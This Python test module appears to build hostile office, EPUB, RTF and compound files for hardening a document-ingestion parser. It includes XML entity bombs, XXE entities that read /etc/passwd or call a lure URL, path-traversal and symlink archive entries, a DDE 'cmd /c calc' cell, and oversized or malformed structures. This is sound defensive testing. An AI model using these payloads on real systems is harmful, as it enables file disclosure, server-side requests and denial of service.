"""Hostile documents of offices: XML that explodes or reads files, packages that point out, tables without end, RTF, compound files."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.hostile.archives import DAY, patched, zipped
from tests.hostile.lure import Lure
from tests.ingest.make_files import OFFICE, RELATIONS, W, make_docx, make_zip, paragraph
from tests.ingest.make_office import (
    line,
    make_compound,
    make_package,
    make_pptx,
    make_xlsx,
    relations,
    row,
    shape,
)
from tests.ingest.make_ppt import container, make_ppt, make_slide

DATA = Path(__file__).parents[1] / "data" / "files"
LAUGHS = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9)) + '<!ENTITY e0 "lol">'
ODF = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
QUADRATIC = f'<!ENTITY e "{"a" * 100_000}">'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def files(lure: Lure) -> Mapping[str, Callable[[], bytes]]:
    return {
        **_entities(lure),
        **_pointing_out(lure),
        **_large(),
        **_broken(),
        **_rtf(lure),
        **_old(),
    }


def _document(kind: str, content: str, doctype: str) -> bytes:
    """A package of that kind whose main part has this document type and content."""
    parts = {
        "docx": ("word/document.xml", f"<w:document {W}><w:body><w:p><w:r><w:t>{content}</w:t></w:r></w:p></w:body></w:document>"),
        "xlsx": ("xl/workbook.xml", f"<workbook {S}><sheets>{content}</sheets></workbook>"),
        "pptx": ("ppt/presentation.xml", f"<p>{content}</p>"),
    }  # fmt: skip
    if kind in parts:
        main, xml = parts[kind]
        return make_package(main, {main: f"<!DOCTYPE d [{doctype}]>{xml}"})
    if kind == "epub":
        name = "META-INF/container.xml"
        return make_zip({"mimetype": "application/epub+zip", name: f"<!DOCTYPE d [{doctype}]><c>{content}</c>"})  # fmt: skip
    return _odf(ODF[kind], f"<!DOCTYPE d [{doctype}]><d>{content}</d>")


def _entities(lure: Lure) -> Mapping[str, Callable[[], bytes]]:
    made: dict[str, Callable[[], bytes]] = {}
    doctypes = {
        "laughs": (LAUGHS, "&e9;"),
        "quadratic": (QUADRATIC, "&e;" * 50_000),
        "passwd": ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        "calls-home": (
            f'<!ENTITY x SYSTEM "{lure.url}/x"><!ENTITY % p SYSTEM "{lure.url}/p">%p;',
            "&x;",
        ),
    }
    for kind in ("docx", "xlsx", "pptx", "odt", "ods", "odp", "epub"):
        for name, (doctype, content) in doctypes.items():
            if name in ("laughs", "calls-home") or kind == "docx":
                made[f"{name}.{kind}"] = lambda k=kind, c=content, d=doctype: _document(k, c, d)
    return made


def _outward(target: str, kind: str) -> str:
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r" Type="{OFFICE}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


def _pointing_out(lure: Lure) -> Mapping[str, Callable[[], bytes]]:
    url, away = lure.url, lure.way_out
    picture = f'<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{url}/i.png"/></draw:frame>'
    text = "<office:body><office:text><text:p>Words</text:p>{}</office:text></office:body>"
    return {
        "template-from-afar.docx": lambda: make_docx(
            paragraph("Words"), parts={"settings.xml": f"<w:settings {W}/>", "_rels/settings.xml.rels": _outward(f"{url}/t.dotm", "attachedTemplate")}
        ),
        "picture-from-afar.docx": lambda: make_docx(
            paragraph("Words") + f'<w:p><w:r><w:fldSimple w:instr="INCLUDEPICTURE {url}/a.png"/></w:r></w:p>'
        ),
        "main-part-from-afar.docx": lambda: make_zip({"_rels/.rels": _outward(f"{url}/d.xml", "officeDocument"), "word/document.xml": "<x/>"}),
        "main-part-of-the-machine.docx": lambda: make_zip(
            {"_rels/.rels": relations({"../../../../etc/passwd": "officeDocument"}), "word/document.xml": "<x/>"}
        ),
        "part-that-leads-out.docx": lambda: zipped(("word/document.xml", b"<x/>"), (away, b"x")),
        "linked-part.docx": lambda: zipped(("word/document.xml", b"/etc/passwd"), attributes=0o120777 << 16),
        "slide-of-itself.pptx": lambda: make_pptx(
            shape(line("Words")), parts={"ppt/slides/_rels/slide1.xml.rels": relations({"slide1.xml": "slide", "../presentation.xml": "notesSlide"})}
        ),
        "link-and-dde.xlsx": lambda: make_xlsx(
            row(1, "Words") + f'<row r="2"><c r="A2" t="str"><f>WEBSERVICE("{url}/w")</f><v>=cmd|\'/c calc\'!A0</v></c></row>',
            parts={"xl/externalLinks/externalLink1.xml": f"<externalLink {S}/>", "xl/externalLinks/_rels/externalLink1.xml.rels": _outward(f"{url}/b.xlsx", "externalLinkPath")},
        ),
        "picture-from-afar.odt": lambda: _odf("text", text.format(picture)),
        "script.odt": lambda: _odf("text", text.format(f'<text:script xlink:href="{url}/s" xmlns:xlink="http://www.w3.org/1999/xlink">x</text:script>')),
        "from-afar.epub": lambda: _epub(f'<link rel="stylesheet" href="{url}/c.css"/><img src="{url}/i.png"/><iframe src="{url}/f"/><p>Words</p>'),
        "chapter-of-the-machine.epub": lambda: _epub("<p>Words</p>", chapter="../../../../../etc/passwd"),
        "chapter-from-afar.epub": lambda: _epub("<p>Words</p>", chapter=f"{url}/c.xhtml"),
    }  # fmt: skip


def _epub(body: str, *, chapter: str = "c.xhtml", spine: int = 1) -> bytes:
    refs = '<itemref idref="c"/>' * spine
    return make_zip({
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="o.opf"/></rootfiles></container>',
        "o.opf": f'<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="{chapter}"/></manifest><spine>{refs}</spine></package>',
        "c.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>',
    })  # fmt: skip


def _large() -> Mapping[str, Callable[[], bytes]]:
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p></table:table-cell>'
    sheet = f'<office:body><office:spreadsheet><table:table table:name="S"><table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row></table:table></office:spreadsheet></office:body>'
    return {
        "million-paragraphs.docx": lambda: make_docx("".join(f"<w:p><w:r><w:t>{n * 7919 % 1_000_003}</w:t></w:r></w:p>" for n in range(1_000_000))),
        "bomb.docx": lambda: make_docx(paragraph("a" * 100_000_000)),
        "deep.docx": lambda: make_docx("<w:p>" * 3000 + "</w:p>" * 3000),
        "deeper.docx": lambda: make_docx("".join(f"<w:p{n}>" for n in range(100_000))),
        "tables-in-tables.docx": lambda: make_docx("<w:tbl><w:tr><w:tc>" * 2000 + paragraph("Words") + "</w:tc></w:tr></w:tbl>" * 2000),
        "row-of-30000.docx": lambda: make_docx("<w:tbl><w:tr>" + "".join(f"<w:tc>{paragraph(str(n))}</w:tc>" for n in range(30_000)) + "</w:tr></w:tbl>"),
        "attributes.docx": lambda: make_docx(f"<w:p {_namespaces().replace('xmlns:', '')}/>"),
        "shared-string-a-hundred-thousand-times.xlsx": lambda: make_xlsx(
            "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 100_001)),
            parts={
                "xl/sharedStrings.xml": f'<sst {S} count="1" uniqueCount="1"><si><t>{"harbour " * 4000}</t></si></sst>',
                "xl/_rels/workbook.xml.rels": relations({"worksheets/sheet1.xml": "worksheet", "sharedStrings.xml": "sharedStrings"}),
            },
        ),
        "four-billion-shared-strings.xlsx": lambda: make_xlsx(
            row(1, "Words"),
            parts={
                "xl/sharedStrings.xml": f'<sst {S} count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>',
                "xl/_rels/workbook.xml.rels": relations({"worksheets/sheet1.xml": "worksheet", "sharedStrings.xml": "sharedStrings"}),
            },
        ),
        "last-cell.xlsx": lambda: make_xlsx(row(1, 1) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "cell-beyond-the-last.xlsx": lambda: make_xlsx('<row r="9999999999"><c r="ZZZZZZZZ99999999999"><v>1</v></c></row>'),
        "row-zero.xlsx": lambda: make_xlsx('<row r="0"><c r="A0"><v>1</v></c><c r="" t="s"><v>-1</v></c></row>'),
        "million-merged.xlsx": lambda: make_xlsx(row(1, "Words") + "</sheetData><mergeCells>" + "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 50_000)) + "</mergeCells><sheetData>"),
        "repeated-17-billion-times.ods": lambda: _odf("spreadsheet", sheet),
        "spaces.odt": lambda: _odf("text", '<office:body><office:text><text:p>a<text:s text:c="2000000000"/>b</text:p></office:text></office:body>'),
        "deep.odt": lambda: _odf("text", "<office:body><office:text>" + "<text:list><text:list-item>" * 20_000 + "</text:list-item></text:list>" * 20_000 + "</office:text></office:body>"),
        "spine-of-a-million.epub": lambda: _epub("<p>Words and more words.</p>", spine=1_000_000),
        "thousand-slides.pptx": lambda: make_pptx(*[shape(line("Words"))] * 1000),
    }  # fmt: skip


def _odf(kind: str, content: str, *others: tuple[str, bytes]) -> bytes:
    """An OpenDocument file; its type stands first and unpacked, or it is an archive to everybody."""
    names = {"office": "office", "text": "text", "table": "table", "drawing": "draw"}
    declared = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name, short in names.items()
    )
    whole = (
        content
        if content.startswith("<!DOCTYPE")
        else f"<office:document-content {declared}>{content}</office:document-content>"
    )
    media = f"application/vnd.oasis.opendocument.{kind}".encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype", DAY), media)
        for name, data in (("content.xml", whole.encode()), *others):
            archive.writestr(zipfile.ZipInfo(name, DAY), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _broken() -> Mapping[str, Callable[[], bytes]]:
    return {
        "claims-to-be-locked.docx": lambda: patched(make_docx(paragraph("Words")), flag=1),
        "locked.xlsx": lambda: (DATA / "password_protected.xlsx").read_bytes(),
        "locked.odt": lambda: _locked_odf(),
        "says-less.docx": lambda: patched(make_docx(paragraph("Words " * 9999)), size=100),
        "twice-the-main-part.docx": lambda: zipped(("word/document.xml", b"<a/>"), ("word/document.xml", b"<b/>")),
        "other-encoding.docx": lambda: _main(f"<?xml version='1.0' encoding='utf-7'?><w:document {W}/>".encode()),
        "unknown-encoding.docx": lambda: _main(b"<?xml version='1.0' encoding='rot13'?><a/>"),
        "utf-16.docx": lambda: _main(f"<?xml version='1.0' encoding='utf-16'?><w:document {W}/>".encode("utf-16")),
        "nul.docx": lambda: _main(f"<w:document {W}><w:body><w:p>\0</w:p></w:body></w:document>".encode()),
        "no-xml.docx": lambda: _main(b"\xff\xfe\xfd" * 1000),
        "empty-parts.docx": lambda: make_zip({"[Content_Types].xml": "", "_rels/.rels": "", "word/document.xml": ""}),
        "empty-parts.pptx": lambda: make_zip({"[Content_Types].xml": "", "_rels/.rels": "", "ppt/presentation.xml": ""}),
        "hundred-thousand-names.docx": lambda: _main(f"<w:document {W} {_namespaces()}/>".encode()),
    }  # fmt: skip


def _namespaces() -> str:
    return " ".join(f'xmlns:n{n}="u{n}"' for n in range(50_000))


def _main(content: bytes) -> bytes:
    rels = relations({"word/document.xml": "officeDocument"}).encode()
    return zipped(("_rels/.rels", rels), ("word/document.xml", content))


def _locked_odf() -> bytes:
    key = '<manifest:encryption-data manifest:checksum="x"/>'
    manifest = f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml">{key}</manifest:file-entry></manifest:manifest>'
    return _odf("text", "<x/>" * 99, ("META-INF/manifest.xml", manifest.encode()))


def _rtf(lure: Lure) -> Mapping[str, Callable[[], bytes]]:
    url = lure.url
    return {
        "deep.rtf": lambda: b"{\\rtf1 " + b"{" * 1_000_000,
        "closed-too-often.rtf": lambda: b"{\\rtf1 Words" + b"}" * 300_000,
        "binary.rtf": lambda: b"{\\rtf1 \\bin999999999999 Words}",
        "negative-binary.rtf": lambda: b"{\\rtf1 \\bin-1 Words}",
        "long-word.rtf": lambda: b"{\\rtf1 \\" + b"a" * 5_000_000 + b" Words}",
        "long-number.rtf": lambda: b"{\\rtf1 \\u" + b"9" * 100_000 + b"? Words}",
        "surrogates.rtf": lambda: b"{\\rtf1 " + b"\\u-10000?\\u-10240?" * 50_000 + b"}",
        "nothing-to-skip.rtf": lambda: b"{\\rtf1 \\uc999999999 \\u65 Words}",
        "reaches-out.rtf": lambda: f'{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}/a.png" }}}}{{\\*\\template {url}/t}}{{\\object\\objautlink{{\\*\\objdata {"d0cf" * 999}}}}}{{\\file\\fid0 {lure.way_out}}} Words}}'.encode(),
        "hex.rtf": lambda: b"{\\rtf1 " + b"\\'" * 500_000 + b"}",
        "rows.rtf": lambda: b"{\\rtf1 " + b"\\trowd\\cellx1\\intbl a\\cell\\row" * 30_000 + b"}",
        "fonts.rtf": lambda: b"{\\rtf1{\\fonttbl" + b"".join(b"{\\f%d\\fcharset999 A;}" % n for n in range(30_000)) + b"} Words}",
    }  # fmt: skip


def _old() -> Mapping[str, Callable[[], bytes]]:
    """Compound files: circles in the tables, giant sizes, streams of garbage."""
    doc = (DATA / "simple.doc").read_bytes()
    streams = {
        "doc": {"WordDocument": b"\xec\xa5" + b"\xff" * 6000, "1Table": b"\xff" * 5000},
        "xls": {"Workbook": b"\x09\x08\xff\xff" * 3000},
        "msg": {"__substg1.0_0037001F": b"\xff" * 5001, "__properties_version1.0": b"\xff" * 64},
    }
    made: dict[str, Callable[[], bytes]] = {
        f"garbage.{kind}": lambda c=content: make_compound(c) for kind, content in streams.items()
    }
    return made | {
        "circle.doc": lambda: _fat_filled(doc, 0),
        "circle-of-itself.doc": lambda: _fat_filled(doc, 1),
        "sector-of-32768-bits.doc": lambda: doc[:30] + b"\xff\x7f\xff\x7f" + doc[34:],
        "four-billion-sectors.doc": lambda: doc[:44] + b"\xff\xff\xff\xff" + doc[48:],
        "directory-nowhere.doc": lambda: doc[:48] + b"\xfb\xff\xff\xff" + doc[52:],
        "only-a-head.doc": lambda: doc[:8],
        "head-and-nothing.msg": lambda: doc[:512],
        "slides-in-slides.ppt": lambda: make_ppt([_deep(2000)]),
        "locked.ppt": lambda: make_ppt([make_slide()], token=0xF3D1C4DF),
        "length-of-4-gb.ppt": lambda: make_ppt([struct.pack("<HHI", 0xF, 0x03EE, 0xFFFFFFFF)]),
        "records-of-nothing.xls": lambda: make_compound({"Workbook": struct.pack("<HHI", 0x809, 4, 0x500) + bytes(400_000)}),
        "strings-of-4-billion.xls": lambda: make_compound({"Workbook": struct.pack("<HHHHI", 0x809, 8, 0x600, 5, 0) + bytes(0) + struct.pack("<HHII", 0xFC, 8, 0xFFFFFFFF, 0xFFFFFFFF) + bytes(5000)}),
    }  # fmt: skip


def _fat_filled(doc: bytes, number: int) -> bytes:
    """Let every sector be followed by that one."""
    (first,) = struct.unpack_from("<I", doc, 76)
    at = 512 * (first + 1)
    return doc[:at] + struct.pack("<I", number) * 128 + doc[at + 512 :]


def _deep(depth: int) -> bytes:
    content = b""
    for _ in range(depth):
        content = container(0x040C, content)
    return container(0x03EE, content)
